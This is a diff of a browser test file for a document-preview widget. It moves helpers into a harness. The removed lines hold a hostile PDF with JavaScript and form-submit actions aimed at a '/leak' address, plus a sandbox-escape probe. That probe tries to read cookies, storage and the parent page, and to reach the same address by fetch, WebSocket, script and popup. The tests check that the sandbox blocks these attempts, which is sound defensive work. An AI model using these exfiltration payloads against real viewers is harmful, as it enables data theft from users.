@@ -1,25 +1,9 @@
-import { deflateSync } from 'node:zlib'
-import type { FrameLocator, Locator, Page } from 'playwright/test'
+import type { FrameLocator, Page } from 'playwright/test'
 import { previews as words } from '../widget/ui/strings/en/previews.ts'
 import { makePdf } from './harness/pdfs.ts'
+import { hostilePdf, inkOf, png, reachOut } from './harness/previews.ts'
 import { note, reveal } from './harness/reading.ts'
 import { expect, test } from './harness/test.ts'
-
-/** One red pixel. */
-const PIXEL = Buffer.from(
-  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
-  'base64',
-)
-
-/** A PNG of these sides, the data of which is `data`. */
-function png(width: number, height: number, data = deflateSync(Buffer.alloc(64))): Buffer {
-  const head = Buffer.concat([PIXEL.subarray(0, 16), Buffer.alloc(8), PIXEL.subarray(24, 33)])
-  head.writeUInt32BE(width, 16)
-  head.writeUInt32BE(height, 20)
-  const length = Buffer.alloc(4)
-  length.writeUInt32BE(data.length)
-  return Buffer.concat([head, length, Buffer.from('IDAT'), data, Buffer.alloc(4)])
-}
 
 /** Reveals a note with files, and has each looked at. */
 async function lookAt(page: Page, link: string): Promise<void> {
@@ -34,22 +18,6 @@ const frameOf = (page: Page): FrameLocator => page.frameLocator('iframe.preview'
 
 const pdf = (content: string, name = 'pages.pdf') => ({ name, type: 'application/pdf', content })
 
-/** The part of a canvas that is dark, in its middle half and in all of it. */
-const ink = (canvas: Locator): Promise<[middle: number, all: number]> =>
-  canvas.evaluate((element) => {
-    const canvas = element as HTMLCanvasElement
-    const { width, height } = canvas
-    const context = canvas.getContext('2d') as CanvasRenderingContext2D
-    const dark = (x: number, y: number, w: number, h: number) => {
-      const { data } = context.getImageData(x, y, w, h)
-      let count = 0
-      for (let i = 0; i < data.length; i += 4) if ((data[i] ?? 255) < 128) count++
-      return count / (w * h)
-    }
-    const [w, h] = [Math.floor(width / 2) - 2, Math.floor(height / 2) - 2]
-    return [dark(Math.ceil(width / 4) + 1, Math.ceil(height / 4) + 1, w, h), dark(0, 0, width, height)]
-  })
-
 test('a PDF is shown as images of its pages, a few at a time, and is loaded when asked for', async ({
   page,
   make,
@@ -63,14 +31,14 @@ test('a PDF is shown as images of its pages, a few at a time, and is loaded when
   await page.getByText('Look at it').click()
   const canvases = frameOf(page).locator('canvas')
   await expect(canvases.first()).toBeVisible()
-  const [middle, all] = await ink(canvases.first())
+  const [middle, all] = await canvases.first().evaluate(inkOf)
   expect(middle).toBeGreaterThan(0.99)
   expect(all).toBeCloseTo(0.25, 1)
   expect(await canvases.count()).toBeLessThan(7)
   await frameOf(page).locator('body > div').last().scrollIntoViewIfNeeded()
   const last = frameOf(page).getByRole('img', { name: '20 / 20' })
   await expect(last).toBeVisible()
-  expect((await ink(last))[0]).toBeGreaterThan(0.99)
+  expect((await last.evaluate(inkOf))[0]).toBeGreaterThan(0.99)
   expect(await canvases.count()).toBeLessThan(7)
 })
 
@@ -85,24 +53,13 @@ test('a PDF with fonts of its own is drawn with them', async ({ page, make, brow
   await lookAt(page, await make({ files: [file] }))
   const canvas = frameOf(page).locator('canvas')
   await expect(canvas).toBeVisible()
-  const [, all] = await ink(canvas)
+  const [, all] = await canvas.evaluate(inkOf)
   expect(all).toBeGreaterThan(0.03)
   expect(all).toBeLessThan(0.3)
 })
 
 test('nothing that a PDF would do is done', async ({ page, make, wire }) => {
-  const away = `${wire.origin}/leak`
-  const script = `(app.launchURL\\("${away}"\\); this.submitForm\\("${away}"\\); app.alert\\("fired"\\))`
-  const content = makePdf({
-    catalogue: `/OpenAction << /S /JavaScript /JS ${script} >> /AcroForm << /XFA (<xdp/>) /Fields [4 0 R] >>
-      /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >>`,
-    page: `/Annots [4 0 R 5 0 R] /AA << /O << /S /URI /URI (${away}) >> >>`,
-    objects: [
-      `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 400 400] /A << /S /SubmitForm /F (${away}) >> >>`,
-      `<< /Type /Annot /Subtype /Link /Rect [0 0 400 400] /A << /S /URI /URI (${away}) >> >>`,
-    ],
-  })
-  await lookAt(page, await make({ files: [pdf(content)] }))
+  await lookAt(page, await make({ files: [pdf(hostilePdf(`${wire.origin}/leak`))] }))
   const canvas = frameOf(page).locator('canvas')
   await expect(canvas).toBeVisible()
   const address = page.url()
@@ -167,51 +124,7 @@ for (const [what, shown, file] of FRAMED)
     const inside = frameOf(page).locator(shown)
     await expect(inside).toBeVisible()
     wire.takeSent()
-    const reached = await inside.evaluate(async (_, away) => {
-      const tries: Record<string, () => unknown> = {
-        parent: () => parent.document.body.innerHTML,
-        address: () => parent.location.href,
-        storage: () => localStorage.length,
-        cookies: () => document.cookie,
-        database: () =>
-          new Promise((done, fail) => Object.assign(indexedDB.open('x'), { onsuccess: done, onerror: fail })),
-        files: () => navigator.storage.getDirectory(),
-        fetch: () => fetch(`${away}/fetch`),
-        socket: () =>
-          new Promise((done, fail) =>
-            Object.assign(new WebSocket(`${away.replace('http', 'ws')}/ws`), { onopen: done, onerror: fail }),
-          ),
-        image: () =>
-          new Promise((done, fail) =>
-            Object.assign(new Image(), { onload: done, onerror: fail, src: `${away}/pixel.png` }),
-          ),
-        script: () =>
-          new Promise((done, fail) =>
-            document.head.append(
-              Object.assign(document.createElement('script'), {
-                onload: done,
-                onerror: fail,
-                src: `${away}/leak.js`,
-              }),
-            ),
-          ),
-        eval: () => new Function('return 1')(),
-        top: () => {
-          if (top) top.location.href = `${away}/top`
-        },
-        popup: () => {
-          if (!open(`${away}/popup`)) throw new Error('none')
-        },
-      }
-      const reached: string[] = []
-      for (const [name, attempt] of Object.entries(tries)) {
-        try {
-          await attempt()
-          reached.push(name)
-        } catch {}
-      }
-      return [self.origin, ...reached]
-    }, `${wire.origin}/leak`)
+    const reached = await inside.evaluate(reachOut, `${wire.origin}/leak`)
     expect(reached).toEqual(['null'])
     expect(wire.takeSent().toString()).not.toContain('leak')
     expect(page.url()).toBe(link)
